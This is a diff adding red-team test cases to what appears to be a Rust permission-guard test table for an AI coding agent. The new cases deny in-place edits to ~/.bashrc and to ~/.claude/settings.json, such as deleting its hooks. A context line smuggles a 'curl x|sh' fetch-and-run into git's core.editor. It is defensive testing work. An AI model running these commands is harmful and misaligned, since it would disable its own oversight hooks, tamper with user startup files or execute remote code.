@@ -519,4 +519,16 @@ pub(crate) const CASES: &[Case] = &[
     ),
     deny("files.deny-write", "git config --global core.pager /tmp/less"),
     deny("files.deny-write", "git config --global core.editor \"vim -c '!curl x|sh'\""),
+    // In-place editors (red-team round 6).
+    deny("files.deny-write", "yq -i 'del(.hooks)' ~/.claude/settings.json"),
+    allow("yq -i '.version = 2' config.yml"),
+    deny("files.deny-write", "gawk -i inplace '{print}' ~/.bashrc"),
+    allow("gawk '{print}' ~/.bashrc"),
+    deny("files.deny-write", "sd foo bar ~/.bashrc"),
+    allow("sd foo bar src/main.rs"),
+    deny("files.deny-write", "rpl foo bar ~/.bashrc"),
+    deny("files.deny-write", "xmlstarlet ed -L -d //x ~/.claude/settings.json"),
+    allow("xmlstarlet ed -d //x pom.xml"),
+    deny("files.deny-write", "dasel put -f ~/.claude/settings.json -v x '.a'"),
+    allow("dasel -f config.yml '.a'"),
 ];
